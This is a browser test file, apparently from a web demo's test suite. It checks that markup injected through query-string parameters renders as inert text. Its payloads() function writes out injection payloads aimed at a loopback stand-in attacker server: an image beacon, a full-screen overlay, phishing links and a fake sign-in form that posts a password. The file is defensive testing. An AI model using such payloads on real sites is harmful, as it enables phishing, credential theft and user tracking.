"""A link cannot put markup on the page (issue 28): values from the query string reach the link
note, the toast and every other place as text. A loopback HTTP server stands in for the attacker
whose addresses the links carry (an image beacon, a Markdown image, a phishing link and form):
no request reaches it, none of those elements exist in the page, the text shows as written, and
the page still runs its example. Skips where /usr/bin/chromium is absent.
"""
from __future__ import annotations

import os
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlencode

import pytest

from conftest import ARTIFACTS, CHROMIUM

pytestmark = [
    pytest.mark.browser,
    pytest.mark.skipif(not os.path.exists(CHROMIUM), reason=f"{CHROMIUM} not installed"),
]
pytest.importorskip("playwright.sync_api")

os.environ.setdefault("GRADIO_ANALYTICS_ENABLED", "False")
os.environ.setdefault("HF_HUB_OFFLINE", "1")

MODEL_TIMEOUT_MS = 240_000   # a cold model load plus a run on a busy 2-core machine
NOTE_TIMEOUT_MS = 60_000
ATTACKER_LIFETIME_S = 600    # the stand-in stops by itself after this, whatever happens to the test


@pytest.fixture(scope="module")
def attacker():
    """A loopback HTTP server recording every request it gets (path), answering 204; it serves
    one request at a time in a daemon thread and shuts itself down after ATTACKER_LIFETIME_S."""
    seen: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:  # noqa: N802 - http.server's name
            seen.append(self.path)
            self.send_response(204)
            self.end_headers()
        do_POST = do_GET

        def log_message(self, *args) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    server.daemon_threads = True
    server.timeout = 5
    threading.Thread(target=server.serve_forever, name="attacker", daemon=True).start()
    stop = threading.Timer(ATTACKER_LIFETIME_S, server.shutdown)
    stop.daemon = True
    stop.start()
    server.seen = seen
    server.base = f"http://127.0.0.1:{server.server_address[1]}"
    try:
        yield server
    finally:
        stop.cancel()
        server.shutdown()
        server.server_close()


def payloads(base: str) -> dict[str, str]:
    """The red-team's markup, each naming the attacker's address."""
    return {
        "img": f'<img src="{base}/beacon.png">',
        "markdown_image": f"![x]({base}/markdown.png)",
        "cover": ('<div class="gtp-evil-cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
                  f'z-index:99999;background:url({base}/cover.png) red">covered</div>'),
        "form": (f'<form class="gtp-evil-form" action="{base}/login" method="post">Sign in again '
                 '<input type="password" name="pw"><button>Sign in</button></form>'),
        "link": f'<a class="gtp-evil-link" href="{base}/phish">Your session expired: sign in</a>',
        "markdown_link": f"[sign in]({base}/markdown-link) {base}/autolink www.example.com",
    }


# No element the payloads could make, nor any element or style naming the attacker's address.
INJECTED = """([port]) => {
    const found = [];
    const selectors = ['img[src*="' + port + '"]', 'a[href*="' + port + '"]', 'form', 'input[type=password]',
                       '[style*="' + port + '"]', '[style*="99999"]', '.gtp-evil-cover', '.gtp-evil-form',
                       '.gtp-evil-link', '[action*="' + port + '"]'];
    for (const s of selectors) for (const el of document.querySelectorAll(s)) found.push(s + ': ' + el.outerHTML.slice(0, 120));
    return found;
}"""


def open_link(browser, url: str, params: dict[str, str], name: str, attacker):
    """The page opened on `url` with `params`; (page, requests the browser sent to the attacker)."""
    page = browser.new_page(viewport={"width": 1440, "height": 1000})
    tried: list[str] = []
    page.on("request", lambda r: tried.append(r.url) if r.url.startswith(attacker.base) else None)
    errors: list[str] = []
    page.on("pageerror", lambda e: errors.append(str(e)))
    page.goto(f"{url}?{urlencode(params)}", wait_until="domcontentloaded", timeout=60_000)
    page.errors = errors
    page.wait_for_function("() => (document.querySelector('#gtp-link-note') || {innerText: ''})"
                           ".innerText.includes('Link:')", timeout=NOTE_TIMEOUT_MS)
    page.wait_for_selector("[data-testid='toast-body']", timeout=NOTE_TIMEOUT_MS)
    page.screenshot(path=str(ARTIFACTS / f"link_markup_{name}.png"))
    return page, tried


def test_links_full_of_markup_show_it_as_text(browser, url, attacker):
    port = str(attacker.server_address[1])
    p = payloads(attacker.base)
    links = {   # several parameters at once, each payload in more than one place
        "first": {"model": p["img"], "tab": p["markdown_image"], "sparsity": p["cover"], "graph": p["form"],
                  "example": p["link"], "step": p["markdown_link"], p["img"].replace("beacon", "key"): "1"},
        "second": {"model": p["link"], "alpha": p["img"], "num_prop": p["markdown_link"], "block": p["form"],
                   "selection": p["cover"], "token_scale": p["markdown_image"]},
    }
    for name, params in links.items():
        page, tried = open_link(browser, url, params, name, attacker)
        try:
            note = page.inner_text("#gtp-link-note")
            toast = page.inner_text("[data-testid='toast-body']")
            # Shown as the text it is (not as markup, nor as escaped entities or backslashes).
            for value in params.values():
                if value.startswith("<"):
                    assert value.split(" ")[0] in note, (value, note)
            assert "<" in toast and "&lt;" not in toast and "\\" not in note, (toast, note)
            # The page still works: the example runs with the default model.
            page.wait_for_function("() => (document.querySelector('#gtp-status') || {innerText: ''})"
                                   ".innerText.includes('Ran ')", timeout=MODEL_TIMEOUT_MS)
            assert page.evaluate(INJECTED, [port]) == [], name
            assert not page.errors, page.errors
            assert not tried, f"the browser asked the attacker for {tried}"
        finally:
            page.close()
    assert attacker.seen == [], f"the attacker's server was reached: {attacker.seen}"
